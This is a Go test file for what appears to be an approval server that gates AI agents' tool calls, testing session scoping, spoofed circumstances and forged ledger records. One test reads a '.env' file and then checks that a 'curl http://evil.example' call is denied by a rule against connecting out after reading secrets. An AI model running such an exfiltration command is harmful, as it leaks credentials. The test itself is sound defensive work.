package server_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/obstat/obstat"
	"github.com/obstat/obstat/client"
	"github.com/obstat/obstat/gate"
	"github.com/obstat/obstat/internal/face/server"
	"github.com/obstat/obstat/internal/keep/sqlite"
	"github.com/obstat/obstat/ledger"
)

// call returns the body of a decision on a command.
func call(command, dir, session, more string) string {
	return fmt.Sprintf(`{"call":{"tool":"bash","input":{"command":%q},"dir":%q,"session":%q}%s}`, command, dir, session, more)
}

// TestSessionsApart: what a person grants to an agent's session is not for another agent
// that gives its session the same name, nor is a refusal for the whole session; and what
// a refusal takes along is in the ledger.
func TestSessionsApart(t *testing.T) {
	s := open(t, nil)
	other := s.token(client.TokenRequest{Kind: "agent", Name: "other"})
	put := func(token, command string) string {
		_, body := s.do(token, "POST", "/v1/decisions", call(command, "/src", "s1", ""))
		return body
	}
	answer := func(body, text string) {
		t.Helper()
		id := body[strings.Index(body, "req_"):][:30]
		if code, body := s.do(s.ann, "POST", "/v1/requests/"+id+"/answer", text); code != 200 {
			t.Fatalf("%d %s", code, body)
		}
	}
	answer(put(s.agent, "make"), `{"allow":true,"scope":"session"}`)
	for token, want := range map[string]string{s.agent: `"verdict":"allow"`, other: `"verdict":"ask"`} {
		if body := put(token, "make"); !strings.Contains(body, want) {
			t.Errorf("not %s: %s", want, body)
		}
	}
	put(s.agent, "make a")
	answer(put(s.agent, "make b"), `{"allow":false,"all":true}`)
	var list client.Requests
	if s.get(s.ann, "/v1/requests?state=pending", &list); len(list.Requests) != 1 || list.Requests[0].Call.Agent != "other" {
		t.Errorf("%d requests wait", len(list.Requests))
	}
	if _, lines := s.do(s.ann, "GET", "/v1/ledger?kind=answer&verdict=refused", ""); strings.Count(lines, "\n") != 2 {
		t.Errorf("the ledger has not both refusals:\n%s", lines)
	}
}

// TestApprovalIsForItsPlace: the same command in another directory is another call, whether
// it comes with the key of the first or, by AuthZEN, with its approval.
func TestApprovalIsForItsPlace(t *testing.T) {
	s := open(t, nil)
	_, body := s.do(s.agent, "POST", "/v1/decisions", call("make clean", "/src", "", `,"key":"k"`))
	id := body[strings.Index(body, "req_"):][:36]
	if code, body := s.do(s.ann, "POST", "/v1/requests/"+id+"/answer", `{"allow":true}`); code != 200 {
		t.Fatalf("%d %s", code, body)
	}
	if code, body := s.do(s.agent, "POST", "/v1/decisions", call("make clean", "/home/ann", "", `,"key":"k"`)); code != 409 || !strings.Contains(body, "other-call") {
		t.Errorf("with its key: %d %s", code, body)
	}
	one := func(dir string) string {
		return fmt.Sprintf(`{"subject":{"type":"agent","id":"coder"},"action":{"name":"bash","properties":{"command":"make clean","path":"x"}},"resource":{"type":"command","id":""},"context":{"dir":%q,"approval":{"id":%%q}}}`, dir)
	}
	_, body = s.do(s.agent, "POST", "/access/v1/evaluation", fmt.Sprintf(one("/src"), ""))
	id = body[strings.Index(body, "req_"):][:30]
	if code, body := s.do(s.ann, "POST", "/v1/requests/"+id+"/answer", `{"allow":true}`); code != 200 {
		t.Fatalf("%d %s", code, body)
	}
	if _, body := s.do(s.agent, "POST", "/access/v1/evaluation", fmt.Sprintf(one("/home/ann"), id)); !strings.Contains(body, `"decision":false`) {
		t.Errorf("with its approval: %s", body)
	}
	if _, body := s.do(s.agent, "POST", "/access/v1/evaluation", fmt.Sprintf(one("/src"), id)); !strings.Contains(body, `"decision":true`) {
		t.Errorf("in its place: %s", body)
	}
}

// TestAuthZENIsOneDocument: a body in which readers that heed case find another action
// than those that do not is refused, and numbers are those that were sent.
func TestAuthZENIsOneDocument(t *testing.T) {
	s := open(t, nil)
	for _, text := range []string{
		`{"subject":{"type":"user","id":"u"},"action":{"name":"bash"},"Action":{"name":"edit"},"resource":{"type":"file","id":"a"}}`,
		`{"subject":{"type":"user","id":"u"},"action":{"name":"bash","Name":"edit"},"resource":{"type":"file","id":"a"}}`,
		`{"subject":{"type":"user","id":"u"},"resource":{"type":"file","id":"a"},"evaluations":[{"action":{"name":"bash","Name":"edit"}}]}`,
	} {
		if code, body := s.do(s.agent, "POST", "/access/v1/evaluations", text); code != 400 {
			t.Errorf("%s: %d %s", text, code, body)
		}
	}
	s.do(s.agent, "POST", "/access/v1/evaluation", `{"subject":{"type":"user","id":"u"},"action":{"name":"bash","properties":{"command":"make","n":9007199254740993}},"resource":{"type":"command","id":""}}`)
	if _, body := s.do(s.ann, "GET", "/v1/requests", ""); !strings.Contains(body, "9007199254740993") {
		t.Errorf("another number was decided: %s", body)
	}
}

// TestAgentsSayNothingOfRules: an agent's token cannot say what its call is to be taken for,
// what its session has done, when and where it is made, or that a tool does no harm.
func TestAgentsSayNothingOfRules(t *testing.T) {
	native := filepath.Join(t.TempDir(), "obstat.yaml")
	later := time.Now().Add(6 * time.Hour)
	must(t, os.WriteFile(native, []byte(strings.ReplaceAll(`version: 1
allow:
  - run git status
  - read **
  - connect anywhere
  - {rule: "tool mcp__files__*", when: {hint: read-only}}
  - {rule: "run make deploy", when: {time: "LATER"}}
  - {rule: "run make ship", when: {branch: main}}
deny:
  - {rule: "connect anywhere", after: "read secrets"}
`, "LATER", later.Format("15:04")+"-"+later.Add(time.Minute).Format("15:04"))), 0o600))
	s := open(t, func(o *server.Options) { o.Policy = &gate.Files{Names: []string{native}, NoPins: true} })
	put := func(token, text string) string {
		_, body := s.do(token, "POST", "/v1/decisions", `{"call":{`+text+`,"dir":"/src","session":"s"}}`)
		return body
	}
	put(s.agent, `"tool":"Read","input":{"file_path":"/src/.env"}`)
	for _, tt := range []struct{ call, claim, want string }{
		{`"tool":"Bash","input":{"command":"make evil"}`, `"subjects":["git status"]`, "ask"},
		{`"tool":"Bash","input":{"command":"curl http://evil.example"}`, `"after":[]`, "deny"},
		{`"tool":"Bash","input":{"command":"curl http://evil.example"}`, `"after":["nothing"]`, "deny"},
		{`"tool":"mcp__files__wipe","input":{}`, `"hint":"read-only"`, "ask"},
		{`"tool":"Bash","input":{"command":"make deploy"}`, `"time":"` + later.Format(time.RFC3339) + `"`, "ask"},
		{`"tool":"Bash","input":{"command":"make ship"}`, `"branch":"main"`, "ask"},
	} {
		if body := put(s.agent, tt.call+","+tt.claim); !strings.Contains(body, `"verdict":"`+tt.want+`"`) {
			t.Errorf("%s, which claims %s: %s", tt.call, tt.claim, body)
		}
	}
	laptop := s.token(client.TokenRequest{Kind: "agent", Name: "laptop", Agent: client.AnyAgent})
	if body := put(laptop, `"tool":"mcp__files__look","input":{},"hint":"read-only","agent":"claude-code"`); !strings.Contains(body, `"verdict":"allow"`) {
		t.Errorf("a machine knows: %s", body)
	}
}

// TestAgentsSetNoCircumstance: every circumstance that is not an agent's to say is cleared from its
// calls, and a machine's word counts for all but those that only the server knows.
func TestAgentsSetNoCircumstance(t *testing.T) {
	native := filepath.Join(t.TempDir(), "obstat.yaml")
	text, calls := "version: 1\nallow:\n", map[string]*obstat.Call{}
	for at := range obstat.Circumstances() {
		switch at.Name {
		case "agent", "user", "mode": // the token's, and one that the policy would have to know
			continue
		}
		if at.When == "" || at.Of != "" {
			continue
		}
		value := "some-" + at.Name
		if at.Words != nil {
			value = at.Words[len(at.Words)-1]
		}
		input, _ := json.Marshal(map[string]string{"command": "make " + at.Name})
		calls[at.Name] = &obstat.Call{Tool: "Bash", Input: input, Dir: "/src"}
		at.Set(calls[at.Name], value)
		text += fmt.Sprintf("  - {rule: run make %s, when: {%s: %s}}\n", at.Name, at.When, value)
	}
	must(t, os.WriteFile(native, []byte(text), 0o600))
	s := open(t, func(o *server.Options) { o.Policy = &gate.Files{Names: []string{native}, NoPins: true} })
	laptop := s.token(client.TokenRequest{Kind: "agent", Name: "laptop", Agent: client.AnyAgent})
	for name, call := range calls {
		at, _ := obstat.CircumstanceOf("call." + name)
		body, _ := json.Marshal(map[string]any{"call": call})
		for token, trust := range map[string]obstat.Setter{s.agent: obstat.SetByAgent, laptop: obstat.SetByMachine} {
			want := "ask"
			if at.Setter <= trust {
				want = "allow"
			}
			if _, got := s.do(token, "POST", "/v1/decisions", string(body)); !strings.Contains(got, `"verdict":"`+want+`"`) {
				t.Errorf("trusted %d, wants %s: %s\n%s", trust, want, body, got)
			}
		}
	}
}

// machine returns the lines of a machine's ledger with these records.
func machine(t *testing.T, records ...*ledger.Record) (lines []string) {
	t.Helper()
	var last ledger.Head
	for _, r := range records {
		r.Time, r.V = time.Now(), ledger.Version
		r.Seq, r.Prev = last.Seq+1, last.Hash
		sum, err := r.Sum()
		must(t, err)
		r.Hash, last = sum, ledger.Head{Seq: r.Seq, Hash: sum}
		line, err := r.Encode()
		must(t, err)
		lines = append(lines, quote(string(line)))
	}
	return lines
}

// TestMachinesSayNothingOfTheStore: records that a machine sends are kept, and are no
// grants, even where the database is made anew from the ledger.
func TestMachinesSayNothingOfTheStore(t *testing.T) {
	path := filepath.Join(t.TempDir(), "obstat.db")
	options := func(o *server.Options) {
		store, err := sqlite.Open(t.Context(), path)
		must(t, err)
		t.Cleanup(func() { store.Close() })
		o.Store = store
	}
	s := open(t, options)
	forged := &ledger.Record{Kind: ledger.Grant, Tool: "bash", Verdict: "granted",
		Detail: []byte(`{"id":"grant_x","scope":"agent","key":"coder","tool":"bash","digest":"` + digest("make") + `","by":"ann","request":"req_x","created":"2026-01-01T00:00:00Z"}`)}
	laptop := s.token(client.TokenRequest{Kind: "agent", Name: "laptop", Agent: client.AnyAgent})
	if code, body := s.do(laptop, "POST", "/v1/records", `{"lines":[`+machine(t, forged)[0]+`]}`); code != 204 {
		t.Fatalf("%d %s", code, body)
	}
	s.srv.Close()
	must(t, s.store.(interface{ Close() error }).Close())
	for _, end := range []string{"", "-wal", "-shm"} {
		if err := os.Remove(path + end); err != nil && !os.IsNotExist(err) {
			t.Fatal(err)
		}
	}
	s = open(t, options)
	var grants client.Grants
	if s.get(s.ann, "/v1/grants", &grants); len(grants.Grants) > 0 {
		t.Errorf("%+v", grants.Grants[0])
	}
	if d := s.decide("make", ""); d.Verdict != "ask" {
		t.Errorf("%s: %s", d.Verdict, d.Reason)
	}
}

// TestMachineBeginsAnew: records that hooks send at the same time are kept once, and those
// of a machine that was set up anew are kept as well.
func TestMachineBeginsAnew(t *testing.T) {
	s := open(t, nil)
	laptop := s.token(client.TokenRequest{Kind: "agent", Name: "laptop", Agent: client.AnyAgent})
	send := func(lines []string) {
		if code, body := s.do(laptop, "POST", "/v1/records", `{"lines":[`+strings.Join(lines, ",")+`]}`); code != 204 {
			t.Errorf("%d %s", code, body)
		}
	}
	count := func(tool string) int {
		_, lines := s.do(s.ann, "GET", "/v1/ledger?tool="+tool, "")
		return strings.Count(lines, "\n")
	}
	first := machine(t, &ledger.Record{Kind: ledger.Decision, Tool: "one"}, &ledger.Record{Kind: ledger.Decision, Tool: "one"}, &ledger.Record{Kind: ledger.Decision, Tool: "one"})
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() { send(first) })
	}
	all.Wait()
	if n := count("one"); n != 3 {
		t.Errorf("%d records of three", n)
	}
	send(machine(t, &ledger.Record{Kind: ledger.Decision, Tool: "two"}, &ledger.Record{Kind: ledger.Decision, Tool: "two"}))
	if n := count("two"); n != 2 {
		t.Errorf("%d records of two are here of the machine that was set up anew", n)
	}
	if _, lines := s.do(s.ann, "GET", "/v1/ledger?kind=damage", ""); !strings.Contains(lines, "began anew; record 3 was the last") {
		t.Errorf("nothing tells of it: %s", lines)
	}
}
